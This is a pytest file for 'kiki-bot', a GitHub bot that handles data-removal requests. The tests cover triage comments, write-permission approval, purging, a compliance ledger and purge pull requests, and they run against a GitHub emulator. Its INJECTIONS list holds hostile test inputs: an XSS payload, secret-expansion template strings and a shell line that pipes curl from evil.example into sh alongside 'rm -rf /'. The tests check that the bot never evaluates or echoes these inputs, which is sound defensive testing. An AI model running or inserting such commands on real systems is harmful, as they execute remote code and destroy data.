@@ -1,0 +1,287 @@
+"""Moment 2 end to end: triage of the issue form, authorised approval, purge, ledger and purge PR —
+through `kiki-bot handle` with fixture payloads against the GitHub emulator."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from conftest import REPO
+from factory import KIKI, adapter, make_project, record, source
+
+from kiki_bot import ledger
+from kiki_bot.project import Project
+from kiki_bot.records import iter_source
+
+FIXTURES = REPO.parent / "shared" / "fixtures" / "github-events"
+GH_REPO = "test-lab/models"
+OPENED = "2026-03-01T10:00:00Z"
+
+
+def body(*lines: str, confirm: bool = True, details: str = "_No response_") -> str:
+    return ("### Content to remove\n\n" + "\n".join(lines) + "\n\n### Your relationship to the content\n\n"
+            "I am the author or rightsholder\n\n### Reason\n\nCopyright\n\n### Additional details\n\n"
+            f"{details}\n\n### Confirmation\n\n- [{'X' if confirm else ' '}] "
+            "I confirm that the information in this request is accurate\n")
+
+
+def issue_event(number: int, text: str, user: str = "octo-dev", labels=("removal-request",),
+                action: str = "opened", title: str = "Removal request") -> dict:
+    event = json.loads((FIXTURES / "issues.opened.payload.json").read_text())
+    event["action"] = action
+    event["issue"].update(number=number, body=text, title=title, created_at=OPENED,
+                          labels=[{"name": name} for name in labels])
+    event["issue"]["user"]["login"] = user
+    event["repository"].update(full_name=GH_REPO, default_branch="main")
+    event["sender"].update(login=user, type="User")
+    if action == "labeled":
+        event["label"] = {"name": labels[0]}
+    return event
+
+
+def comment_event(number: int, text: str, user: str, comment_id: int = 700, issue_user: str = "octo-dev") -> dict:
+    event = json.loads((FIXTURES / "issue_comment.created.payload.json").read_text())
+    event["issue"].update(number=number, labels=[{"name": "removal-request"}])
+    event["issue"]["user"]["login"] = issue_user
+    event["comment"].update(body=text, id=comment_id, created_at="2026-03-03T09:00:00Z")
+    event["comment"]["user"]["login"] = user
+    event["repository"].update(full_name=GH_REPO, default_branch="main")
+    event["sender"].update(login=user, type="User")
+    return event
+
+
+@pytest.fixture
+def env(gh, hub, monkeypatch, tmp_path):
+    recs = [record("acme-fw", i, f"int f{i}(void) {{ return {i}; }}",
+                   origin=f"https://github.com/{owner}/fw/blob/main/src/f{i}.c", repo=f"{owner}/fw", path=f"src/f{i}.c")
+            for i, owner in enumerate(["octo-dev"] * 4 + ["acme"] * 16)]
+    ad = adapter(["acme-fw"])
+    ad["training"]["valid_fraction"] = 0.3
+    project = make_project(tmp_path / "repo", sources={"acme-fw": source()}, records={"acme-fw": recs},
+                           adapters={"tiny-lora": ad})
+    gh.create_repo(GH_REPO, files={str(p.relative_to(project)): p.read_bytes() for p in project.rglob("*")
+                                   if p.is_file()})
+    for login, role in (("reader", "read"), ("triager", "triage"), ("writer", "write"), ("maint", "maintain"),
+                        ("owner", "admin")):
+        gh.set_permission(GH_REPO, login, role)
+    monkeypatch.setenv("KIKI_GITHUB_THROTTLE", "0")
+    monkeypatch.setenv("GITHUB_REPOSITORY", GH_REPO)
+    return project
+
+
+def handle(cli, project, name: str, payload: dict):
+    path = project.parent / f"{name}.json"
+    path.write_text(json.dumps(payload))
+    return cli("handle", "--event-name", name, "--event-path", path, "-C", project)
+
+
+def bot_comments(gh, number: int):
+    return [c for c in gh.comments(GH_REPO, number) if c.user == "kiki-bot[bot]"]
+
+
+def labels(gh, number: int) -> set[str]:
+    return set(gh.issue(GH_REPO, number).labels)
+
+
+def test_triage_answers_once_and_records_nothing(env, gh, cli):
+    number = gh.open_issue(GH_REPO, "Removal", body("acme/fw", "https://github.com/octo-dev/fw/blob/v1/src/f1.c"),
+                           user="octo-dev", labels=["removal-request"])
+    event = issue_event(number, body("acme/fw", "https://github.com/octo-dev/fw/blob/v1/src/f1.c"))
+    assert handle(cli, env, "issues", event).code == 0
+    [comment] = bot_comments(gh, number)
+    assert "| 1 | `acme/fw` | `https://github.com/acme/fw` | 16 |" in comment.body
+    assert "| 2 | `https://github.com/octo-dev/fw/blob/v1/src/f1.c` | " in comment.body
+    assert "acme-fw: 17" in comment.body and "tiny-lora (17 records" in comment.body
+    assert "**2026-03-31 10:00** (UTC), 30 days" in comment.body
+    assert labels(gh, number) == {"removal-request", "awaiting-approval"}
+    assert not (env / "compliance" / "removals.jsonl").exists()
+    # Delivered again, and again as `labeled`: still one comment, same labels.
+    assert handle(cli, env, "issues", event).code == 0
+    assert handle(cli, env, "issues", issue_event(number, event["issue"]["body"], action="labeled")).code == 0
+    assert [c.body for c in bot_comments(gh, number)] == [comment.body]
+
+
+def test_invalid_request_gets_field_by_field_errors(env, gh, cli):
+    text = body("*", "acme/fw", confirm=False)
+    number = gh.open_issue(GH_REPO, "Removal", text, labels=["removal-request"])
+    assert handle(cli, env, "issues", issue_event(number, text)).code == 0
+    [comment] = bot_comments(gh, number)
+    assert "**Content to remove**, line 1:" in comment.body
+    assert "**Confirmation**:" in comment.body
+    assert labels(gh, number) == {"removal-request", "invalid"}
+    assert not (env / "compliance" / "removals.jsonl").exists()
+
+
+@pytest.mark.parametrize("event", [
+    lambda n: ("issues", issue_event(n, body("acme/fw"), labels=("bug",))),
+    lambda n: ("issues", issue_event(n, body("acme/fw"), action="edited")),
+    lambda n: ("issues", issue_event(n, body("acme/fw"), labels=("removal-request", "bug"), action="labeled")
+               | {"label": {"name": "bug"}}),
+    lambda n: ("issue_comment", comment_event(n, "thanks!", "writer")),
+])
+def test_other_events_cause_nothing(env, gh, cli, event):
+    number = gh.open_issue(GH_REPO, "x", body("acme/fw"), labels=["removal-request"])
+    before = len(gh.requests)
+    name, payload = event(number)
+    assert handle(cli, env, name, payload).code == 0
+    assert len(gh.requests) == before
+
+
+def triaged(env, gh, cli, *lines: str, user: str = "octo-dev") -> int:
+    text = body(*lines)
+    number = gh.open_issue(GH_REPO, "Removal", text, user=user, labels=["removal-request"])
+    assert handle(cli, env, "issues", issue_event(number, text, user=user)).code == 0
+    return number
+
+
+@pytest.mark.parametrize("role_user,decides", [
+    ("nobody", False), ("reader", False), ("triager", False), ("writer", True), ("maint", True), ("owner", True),
+])
+def test_only_write_or_higher_may_approve(env, gh, cli, role_user, decides):
+    number = triaged(env, gh, cli, "acme/fw")
+    res = handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", role_user))
+    assert res.code == 0, res.err
+    entries = ledger.read(env / "compliance" / "removals.jsonl")
+    if not decides:
+        assert entries == [] and gh.pulls(GH_REPO) == []
+        assert "changes nothing" in bot_comments(gh, number)[-1].body
+        assert labels(gh, number) == {"removal-request", "awaiting-approval"}
+        return
+    assert [e.event for e in entries] == ["requested", "approved", "purged"]
+    assert entries[1].actor == role_user and len(entries[2].records) == 16
+    remaining = [r.provenance.repo for r in iter_source(env / "data", "acme-fw")]
+    assert remaining == ["octo-dev/fw"] * 4
+    [pr] = gh.pulls(GH_REPO)
+    files = gh.files(GH_REPO, "kiki/removal/R-%d" % number)
+    assert files["compliance/removals.jsonl"] == (env / "compliance" / "removals.jsonl").read_bytes()
+    assert files["data/acme-fw/part-000.jsonl"] == (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
+    assert "Git history still holds the removed content" in pr.body
+    assert labels(gh, number) == {"removal-request", "purged", "retrain-scheduled"}
+    assert "approved and purged: 16 records removed" in bot_comments(gh, number)[0].body
+    ledger.verify(env / "compliance" / "removals.jsonl")
+
+
+def test_approval_delivered_twice_changes_nothing_more(env, gh, cli):
+    number = triaged(env, gh, cli, "acme/fw")
+    event = comment_event(number, "/kiki approve", "writer")
+    assert handle(cli, env, "issue_comment", event).code == 0
+    state = (env / "compliance" / "removals.jsonl").read_bytes(), gh.files(GH_REPO, f"kiki/removal/R-{number}")
+    comments = [c.body for c in gh.comments(GH_REPO, number)]
+    assert handle(cli, env, "issue_comment", event).code == 0
+    assert ((env / "compliance" / "removals.jsonl").read_bytes(), gh.files(GH_REPO, f"kiki/removal/R-{number}")) == state
+    assert [c.body for c in gh.comments(GH_REPO, number)] == comments
+    assert len(gh.pulls(GH_REPO)) == 1
+
+
+def _self_approval(env, on: bool):
+    kiki = json.loads(json.dumps(KIKI))
+    kiki["policy"]["auto_approve_owner"] = on
+    import tomli_w
+
+    (env / "kiki.toml").write_text(tomli_w.dumps(kiki))
+
+
+def test_requester_may_self_approve_only_their_own_login(env, gh, cli):
+    _self_approval(env, True)
+    own = triaged(env, gh, cli, "octo-dev", "https://github.com/octo-dev/fw/blob/main/src/f1.c")
+    assert "you may approve it yourself" in bot_comments(gh, own)[0].body
+    assert handle(cli, env, "issue_comment", comment_event(own, "/kiki approve", "octo-dev")).code == 0
+    assert [e.event for e in ledger.read(env / "compliance" / "removals.jsonl")] == ["requested", "approved", "purged"]
+
+    mixed = triaged(env, gh, cli, "octo-dev", "acme/fw")
+    assert "you may approve it yourself" not in bot_comments(gh, mixed)[0].body
+    assert handle(cli, env, "issue_comment", comment_event(mixed, "/kiki approve", "octo-dev", 701)).code == 0
+    refusal = bot_comments(gh, mixed)[-1].body
+    assert "changes nothing" in refusal and "`https://github.com/acme/fw`" in refusal
+    assert len(ledger.read(env / "compliance" / "removals.jsonl")) == 3
+
+
+def test_self_approval_is_off_by_default(env, gh, cli):
+    own = triaged(env, gh, cli, "octo-dev")
+    assert handle(cli, env, "issue_comment", comment_event(own, "/kiki approve", "octo-dev")).code == 0
+    assert not (env / "compliance" / "removals.jsonl").exists()
+
+
+def test_reject_records_the_decision_and_closes(env, gh, cli):
+    number = triaged(env, gh, cli, "acme/fw")
+    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki reject not our data <b>@x</b>", "maint")).code == 0
+    entries = ledger.read(env / "compliance" / "removals.jsonl")
+    assert [e.event for e in entries] == ["requested", "rejected"]
+    assert gh.issue(GH_REPO, number).state == "closed"
+    assert "Reason: not our data &lt;b&gt;@&#8203;x&lt;/b&gt;" in bot_comments(gh, number)[-1].body
+    assert len(list(iter_source(env / "data", "acme-fw"))) == 20
+
+
+INJECTIONS = [
+    "<img src=x onerror=alert(1)>",
+    "@everyone [click](https://evil.example/x) ![i](https://evil.example/i.png)",
+    "${{ secrets.HF_TOKEN }} {{ 7*7 }} {% if x %}y{% endif %}",
+    "`rm -rf /`; $(curl evil.example | sh) && echo `id`",
+]
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_injected_text_is_never_evaluated_and_is_escaped(env, gh, cli, payload):
+    text = body("acme/fw", payload)
+    number = gh.open_issue(GH_REPO, payload, text, labels=["removal-request"])
+    assert handle(cli, env, "issues", issue_event(number, text, title=payload)).code == 0
+    [comment] = bot_comments(gh, number)
+    assert "**Content to remove**, line 2:" in comment.body  # the line is an error, never widened
+    assert payload not in comment.body  # the message never quotes the line
+    assert "49" not in comment.body and "secrets" not in comment.body
+
+
+def test_injected_details_are_echoed_escaped(env, gh, cli):
+    from kiki_bot.escape import code
+
+    assert code("@everyone ![i](https://evil/i.png)") == "`@everyone ![i](https://evil/i.png)`"
+    assert code("a `b` c") == "``a `b` c``"
+    number = triaged(env, gh, cli, "https://example.com/a?x=<b>@y</b>")
+    comment = bot_comments(gh, number)[0].body
+    assert "| 1 | `https://example.com/a?x=<b>@y</b>` |" in comment
+
+
+def test_private_request_is_filed_without_public_traces(env, gh, cli, tmp_path):
+    path = tmp_path / "request.md"
+    path.write_text(body("acme/fw"))
+    res = cli("removal", "file", "--body", path, "-C", env)
+    assert res.code == 0, res.err
+    doc = res.json()
+    assert doc["request"].startswith("P-") and doc["records"] == 16
+    [entry] = ledger.read(env / "compliance" / "removals.jsonl")
+    assert entry.actor == "private" and entry.request.issue is None
+    assert cli("removal", "purge", doc["request"], "-C", env, "--actor", "maint").code == 0
+    assert [e.event for e in ledger.read(env / "compliance" / "removals.jsonl")] == ["requested", "approved", "purged"]
+    assert gh.comments(GH_REPO, 1) == [] if gh.repo(GH_REPO).issues else True
+
+
+def test_removed_content_never_returns(env, gh, cli):
+    number = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f5.c")
+    assert handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer")).code == 0
+    # The same content comes back in a later scrape under a new index.
+    comeback = record("acme-fw", 5, "int f5(void) { return 5; }", origin="https://mirror.example/f5.c",
+                      repo=None, path=None)
+    comeback["_provenance"]["record_idx"] = 99
+    with open(env / "data" / "acme-fw" / "part-000.jsonl", "a") as fh:
+        fh.write(json.dumps(comeback) + "\n")
+    assert cli("data", "manifest", "-C", env).code == 0
+    from kiki_bot import trainset
+
+    proj = Project(env)
+    ts = trainset.assemble(proj, proj.adapter("tiny-lora"), env.parent / "ts", ledger.read(proj.ledger_path))
+    assert ts.sources["acme-fw"].excluded_reappeared == 1
+    assert cli("card", "render", "--version", "0.1.0", "--date", "2026-03-05", "-C", env).code == 0
+    res = cli("card", "check", "--json", "-C", env)
+    assert res.code == 1 and "part-000.jsonl:20" in res.json()["tiny-lora"]["reappeared"][0]
+
+
+def test_match_cli_json_contract(env, cli, tmp_path):
+    path = tmp_path / "request.md"
+    path.write_text(body("acme/fw", "record:acme-fw#2"))
+    doc = cli("removal", "match", "--body", path, "--json", "-C", env).json()
+    assert doc["selectors"] == ["https://github.com/acme/fw", "record:acme-fw#2"]
+    assert {"source": "acme-fw", "record_idx": 2, "selector": 1} in doc["matches"]
+    assert doc["adapters"] == {"tiny-lora": 17} and doc["errors"] == []
+    path.write_text(body("^.+$"))
+    res = cli("removal", "match", "--body", path, "--json", "-C", env)
+    assert res.code == 2 and res.json()["errors"][0]["line"] == 1
